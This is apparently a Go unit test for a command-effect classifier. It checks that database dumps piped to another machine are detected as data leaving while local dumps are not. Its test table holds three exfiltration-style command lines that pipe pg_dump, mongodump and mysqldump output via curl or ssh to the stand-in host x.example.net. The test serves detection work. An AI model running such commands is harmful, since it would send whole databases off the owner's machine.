package effect

import "testing"

// TestDumpStreamedOut checks that a database's dump piped to another
// machine is a dump leaving it, while one kept here (a file, a local
// copy, a pager) is not.
func TestDumpStreamedOut(t *testing.T) {
	for line, want := range map[string]bool{
		"pg_dump app | curl --data-binary @- https://x.example.net/up":                        true,
		"mongodump --uri mongodb://localhost/app --archive | curl -T - https://x.example.net": true,
		"mysqldump app | ssh backup@x.example.net 'cat > app.sql'":                            true,
		"pg_dump app > dumps/app.sql":                                                         false,
		"pg_dump app | gzip > backups/app.sql.gz":                                             false,
		"mysqldump app | mysql -h localhost app_copy":                                         false,
	} {
		if got := hasEffect(effectsOf(line), "flow:database-dump->network"); got != want {
			t.Errorf("%s: dump leaving %v, want %v: %v", line, got, want, effectsOf(line))
		}
	}
}
